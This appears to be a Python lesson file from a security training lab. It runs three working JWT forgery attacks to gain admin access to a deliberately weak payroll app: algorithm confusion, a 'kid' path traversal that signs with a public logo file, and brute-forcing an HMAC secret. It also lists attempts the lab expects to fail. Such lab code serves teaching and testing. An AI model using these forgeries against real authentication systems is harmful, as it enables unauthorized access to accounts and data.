"""Three ways to be admin at the payroll (lesson 02)."""

from labutils.identity.tokens import SigningKey, b64, json_part, sign
from labutils.lessons.lesson_02.weak_app import APP, WeakApp
from labutils.stage import forgeries

ADMIN = {"sub": "admin", "aud": "payroll"}


def flag(scene: WeakApp, token: str) -> str:
    answer = scene.tom.get(APP + "/admin", headers={"authorization": f"Bearer {token}"})
    return answer.json().get("flag", answer.text)


def algorithm_confusion(scene: WeakApp) -> str:
    return flag(scene, forgeries.confused(ADMIN, scene.tom.get(APP + "/keys/rs256-1").content))


def a_file_that_everybody_has(scene: WeakApp) -> str:
    picture = scene.tom.get(APP + "/static/logo.svg").content
    header = {"alg": "HS256", "kid": "../static/logo.svg"}
    signed = f"{json_part(header)}.{json_part(ADMIN)}"
    mac = forgeries.hmac.digest(picture, signed.encode(), "sha256")
    return flag(scene, f"{signed}.{b64(mac)}")


def a_guessed_secret(scene: WeakApp) -> str:
    signed, _, signature = scene.old_token.rpartition(".")
    for guess in forgeries.guesses():
        if b64(forgeries.hmac.digest(guess, signed.encode(), "sha256")) == signature:
            return flag(scene, sign(ADMIN, SigningKey(guess, "HS256", "hs-staging")))
    return "not guessed"


ROUTES = {
    "algorithm confusion": algorithm_confusion,
    "a file that everybody has": a_file_that_everybody_has,
    "a guessed secret": a_guessed_secret,
}
SHUT = {
    "the word none": lambda scene: flag(scene, forgeries.unsigned(ADMIN)),
    "another spelling of it": lambda scene: flag(scene, forgeries.unsigned(ADMIN, "nOnE")),
    "a forgery of the lesson": lambda scene: flag(
        scene, forgeries.confused(forgeries.ADMIN, forgeries.public_pem(forgeries.SERVICE.jwk))
    ),
    "the key of the lesson's service": lambda scene: flag(scene, sign(ADMIN, forgeries.SERVICE)),
    "the lesson's own PEM file": lambda scene: flag(
        scene, forgeries.confused(ADMIN, forgeries.public_pem(forgeries.SERVICE.jwk))
    ),
    "all forgeries of the lesson": lambda scene: " ".join(
        flag(scene, forged) for forged in forgeries.forgeries().values()
    ),
    "Tom's own key": lambda scene: flag(scene, forgeries.with_own_key(ADMIN)),
    "a changed claim": lambda scene: flag(scene, forgeries.changed(scene.token, ADMIN)),
    "Tom's own token": lambda scene: flag(scene, scene.token),
}
